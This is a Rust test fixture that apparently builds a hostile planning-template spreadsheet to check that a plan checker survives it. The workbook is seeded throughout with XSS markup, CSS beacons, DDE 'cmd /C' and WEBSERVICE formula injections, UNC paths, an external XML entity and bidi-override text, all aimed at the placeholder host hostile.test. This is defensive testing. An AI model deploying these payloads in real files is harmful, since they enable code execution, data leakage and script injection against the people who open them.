//! A plan that would run, load and send whatever it can, if anything in it were taken for more than text.
//!
//! Every address in it is of `hostile.test`, which leads nowhere; every script in it sets `ran`.

use plancheck_tests::book::{At, Book, Content, Look, Sheet, Value, at};
use plancheck_tests::write::{add_member, escaped, member, replace_member, xlsx};
use plancheck_tests::{layout, plans};

/// What is put wherever a plan has room for words.
const TEXTS: [&str; 21] = [
    "<script>ran=1;fetch('http://script.hostile.test/')</script>",
    "</script><script src=//source.hostile.test/x.js></script>",
    "<img src=x onerror=\"ran=1\">",
    "<img src=http://image.hostile.test/pixel.png>",
    "\"><iframe src=http://frame.hostile.test/></iframe>",
    "<svg onload=ran=1><use href=http://svg.hostile.test/#a></svg>",
    "<a href=http://link.hostile.test/ ping=http://ping.hostile.test/>Open the plan</a>",
    "<meta http-equiv=refresh content=\"0;url=http://refresh.hostile.test/\">",
    "<base href=http://base.hostile.test/><link rel=prefetch href=http://prefetch.hostile.test/>",
    "</style><style>@import url(http://import.hostile.test/);*{background:url(http://css.hostile.test/)}</style>",
    "javascript:ran=1//hostile.test",
    "data:text/html,<script>ran=1</script>//hostile.test",
    r"\\server.hostile.test\share\plan.xlsx",
    "file://server.hostile.test/share/plan.xlsx",
    "http://bare.hostile.test/?plan=1 and mailto:someone@mail.hostile.test",
    "=cmd|' /C start http://command.hostile.test'!A0",
    "+HYPERLINK(\"http://plus.hostile.test/\")",
    "-2+3+WEBSERVICE(\"http://minus.hostile.test/\")",
    "@IMAGE(\"http://at.hostile.test/pixel.png\")",
    // Orders to turn round what stands behind them, and letters that do so by themselves.
    "\u{202e}\u{2067}override.hostile.test\u{202e}",
    "hebrew.hostile.test \u{5e9}\u{5dc}\u{5d5}\u{5dd}",
];

/// Formulas that reach out when a spreadsheet works them out.
const FORMULAS: [&str; 5] = [
    "HYPERLINK(\"http://formula.hostile.test/\",\"Open the plan\")",
    "WEBSERVICE(\"http://service.hostile.test/\"&B3)",
    "_xlfn.IMAGE(\"http://picture.hostile.test/pixel.png\")",
    r"'\\unc.hostile.test\share\[plan.xlsx]Sheet1'!$A$1",
    "cmd|' /C start http://dde.hostile.test'!A0",
];

/// Names of sheets: the first is markup, the other a formula.
const SHEETS: [&str; 2] = ["<img src=x onerror=ran=1>", "=WEBSERVICE(\"//hostile.test\")"];

const STYLES: &str = "xl/styles.xml";

/// The workbook.
pub(super) fn workbook() -> Vec<u8> {
    let mut book = layout::planning_2022_23::lay_out(&plans::sefton());
    fill_in(&mut book);
    for name in SHEETS {
        book.sheets.push(sheet(name));
    }
    if let Some(last) = book.sheets.last_mut() {
        last.hidden = true;
    }
    book.author = Some(TEXTS[0].to_owned());
    book.links = vec!["http://external.hostile.test/other.xlsx".to_owned(), TEXTS[12].to_owned()];
    book.connections = vec![TEXTS[2].to_owned()];
    reaching_out(&xlsx(&book))
}

/// Answers of the plan, from those that reach the page's title to those that only the sheets show.
fn fill_in(book: &mut Book) {
    for (at, cell) in [
        "2. Cover: Health and Wellbeing Board:",
        "2. Cover: Completed by:",
        "2. Cover: E-mail:",
        "2. Cover: Job Title:",
        "2. Cover: Name:",
        "5a. Expenditure: line 1 under Scheme Name",
        "5a. Expenditure: line 2 under Scheme Type",
        "5a. Expenditure: line 3 under Provider",
        "5a. Expenditure: line 4 under Source of Funding",
        "5a. Expenditure: line 5 under Expenditure (£)",
        "5a. Expenditure: line 6 under Expenditure (£)",
        "5a. Expenditure: line 7 under Area of Spend",
        "5a. Expenditure: line 8 under Commissioner",
    ]
    .into_iter()
    .enumerate()
    {
        let (sheet, place) = book.find(cell);
        let text = TEXTS[(at + 9) % TEXTS.len()];
        let sheet = book.sheet_mut(&sheet);
        sheet.set(place, Content::Typed(Value::Text(text.to_owned())));
        sheet.notes.insert(place, TEXTS[at].to_owned());
    }
}

/// Every text typed, and every formula with a text that it shows.
fn sheet(name: &str) -> Sheet {
    let mut sheet = Sheet::new(name);
    for (row, text) in (0..).zip(TEXTS) {
        sheet.text(At { row, col: 1 }, text, Look::Plain);
    }
    for (row, (formula, shows)) in (0..).zip(FORMULAS.into_iter().zip(TEXTS)) {
        let content =
            Content::Formula { text: formula.to_owned(), shows: Some(Value::Text(shows.to_owned())) };
        sheet.set(at("C1").down(row), content);
    }
    sheet
}

/// Gives the sheet of markup links, a picture and a background from elsewhere, and the file a part that names
/// an entity from elsewhere.
fn reaching_out(file: &[u8]) -> Vec<u8> {
    const OFFICE: &str = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
    const DRAWING: &str = "http://schemas.openxmlformats.org/drawingml/2006";
    // The sheets of the template come before it.
    const SHEET: &str = "xl/worksheets/sheet10.xml";
    let relation = |id: &str, kind: &str, target: &str| {
        let target = escaped(target);
        format!(
            "<Relationship Id=\"{id}\" Type=\"{OFFICE}/{kind}\" Target=\"{target}\" TargetMode=\"External\"/>"
        )
    };
    let relations = |each: &[String]| {
        let package = "http://schemas.openxmlformats.org/package/2006/relationships";
        format!("<Relationships xmlns=\"{package}\">{}</Relationships>", each.concat())
    };
    let xml = member(file, SHEET)
        .replace("<worksheet ", &format!("<worksheet xmlns:r=\"{OFFICE}\" "))
        .replace(
            "<pageSetup ",
            "<hyperlinks><hyperlink ref=\"B1\" r:id=\"rIdWeb\" tooltip=\"&lt;b&gt;\"/><hyperlink ref=\"B2\" r:id=\"rIdScript\"/>\
             <hyperlink ref=\"B3\" r:id=\"rIdShare\"/></hyperlinks><pageSetup ",
        )
        .replace("</worksheet>", "<drawing r:id=\"rIdDrawing\"/><picture r:id=\"rIdBack\"/></worksheet>");
    let drawing = format!(
        "<xdr:wsDr xmlns:xdr=\"{DRAWING}/spreadsheetDrawing\" xmlns:a=\"{DRAWING}/main\" xmlns:r=\"{OFFICE}\">\
         <xdr:absoluteAnchor><xdr:pos x=\"0\" y=\"0\"/><xdr:ext cx=\"9\" cy=\"9\"/><xdr:pic><xdr:blipFill>\
         <a:blip r:link=\"rId1\"/></xdr:blipFill></xdr:pic><xdr:clientData/></xdr:absoluteAnchor></xdr:wsDr>"
    );
    let entity = "<!DOCTYPE Properties [<!ENTITY it SYSTEM \"http://entity.hostile.test/\">]>\
                  <?xml-stylesheet href=\"http://sheet.hostile.test/x.xsl\"?><Properties><Company>&it;</Company></Properties>";
    let parts = [
        (
            "xl/worksheets/_rels/sheet10.xml.rels",
            relations(&[
                relation("rIdWeb", "hyperlink", "http://hyperlink.hostile.test/"),
                relation("rIdScript", "hyperlink", TEXTS[10]),
                relation("rIdShare", "hyperlink", TEXTS[12]),
                relation("rIdBack", "image", "http://background.hostile.test/pixel.png"),
                format!(
                    "<Relationship Id=\"rIdDrawing\" Type=\"{OFFICE}/drawing\" Target=\"../drawings/drawing1.xml\"/>"
                ),
            ]),
        ),
        ("xl/drawings/drawing1.xml", drawing),
        (
            "xl/drawings/_rels/drawing1.xml.rels",
            relations(&[relation("rId1", "image", "http://drawing.hostile.test/pixel.png")]),
        ),
        ("docProps/app.xml", entity.to_owned()),
    ];
    let file = replace_member(&replace_member(file, SHEET, xml), STYLES, looks(&member(file, STYLES)));
    parts.into_iter().fold(file, |file, (name, content)| add_member(&file, name, content))
}

/// Colours, fonts and formats of figures that are more than that.
fn looks(styles: &str) -> String {
    let mut styles = styles.to_owned();
    for (plain, hostile) in [
        ("<sz val=\"11\"/>", "<sz val=\"11\"/><color rgb=\"url(http://colour.hostile.test/)\"/>"),
        ("rgb=\"FFDAE8F5\"", "rgb=\"red;background:url(http://fill.hostile.test/)\""),
        ("<name val=\"Arial\"/>", "<name val=\"x;background:url(http://font.hostile.test/)\"/>"),
        ("&quot;£&quot;", "&quot;£&lt;img src=x onerror=ran=1 alt=format.hostile.test&gt;&quot;"),
    ] {
        styles = styles.replace(plain, hostile);
    }
    styles
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn it_reaches_out_by_every_way_and_is_still_a_plan() {
        let file = workbook();
        for (part, holds) in [
            ("xl/worksheets/sheet10.xml", "<hyperlink ref=\"B1\" r:id=\"rIdWeb\""),
            ("xl/worksheets/_rels/sheet10.xml.rels", r"\\server.hostile.test\share"),
            ("xl/externalLinks/_rels/externalLink1.xml.rels", "http://external.hostile.test"),
            ("xl/drawings/_rels/drawing1.xml.rels", "http://drawing.hostile.test"),
            ("xl/workbook.xml", "name=\"&lt;img src=x onerror=ran=1&gt;\""),
            ("xl/sharedStrings.xml", "&lt;script&gt;ran=1"),
            ("docProps/core.xml", "&lt;script&gt;ran=1"),
            (STYLES, "rgb=\"url(http://colour.hostile.test/)\""),
            (STYLES, "rgb=\"red;background:url(http://fill.hostile.test/)\""),
            (STYLES, "val=\"x;background:url(http://font.hostile.test/)\""),
            (STYLES, "&lt;img src=x onerror=ran=1 alt=format.hostile.test"),
        ] {
            assert!(member(&file, part).contains(holds), "{part}");
        }
        let input = plancheck::Input { name: "hostile.xlsx", bytes: &file };
        let report = plancheck::check(&input, &plancheck::Options::default());
        let [document] = &report.documents[..] else { panic!("one document") };
        assert!(document.error.is_none() && document.template.is_some());
        assert!(document.board.as_deref().is_some_and(|it| it.contains("hostile")));
    }
}
